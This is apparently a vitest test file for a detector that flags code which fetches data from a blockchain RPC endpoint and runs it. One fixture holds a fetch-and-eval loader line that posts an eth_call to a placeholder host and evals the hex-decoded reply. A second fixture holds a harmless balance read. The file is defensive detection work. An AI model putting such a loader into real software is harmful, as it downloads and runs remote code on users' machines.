import { describe, expect, it } from 'vitest'
import { artifactOf, hits } from '../testing.ts'
import detector from './loader-chain.ts'

const seen = async (files: Record<string, string>): Promise<string[]> =>
  hits(detector, await artifactOf(files)).map(
    ({ strength, where }) => `${strength} ${where.file}:${where.line}`,
  )

describe('code from a blockchain', () => {
  it('a call whose answer is run', async () => {
    expect(
      await seen({
        'app.js':
          "fetch('https://rpc.invalid', { method: 'POST', body: JSON.stringify({ method: 'eth_call' }) })\n  .then((r) => r.json())\n  .then((j) => eval(Buffer.from(j.result, 'hex').toString()))",
      }),
    ).toEqual(['decisive app.js:3'])
  })

  it('not a balance that is read', async () => {
    expect(
      await seen({
        'app.js':
          "const { ethers } = require('ethers'); new ethers.JsonRpcProvider('https://rpc.example').getBalance('0x0').then(console.log)",
      }),
    ).toEqual([])
  })
})
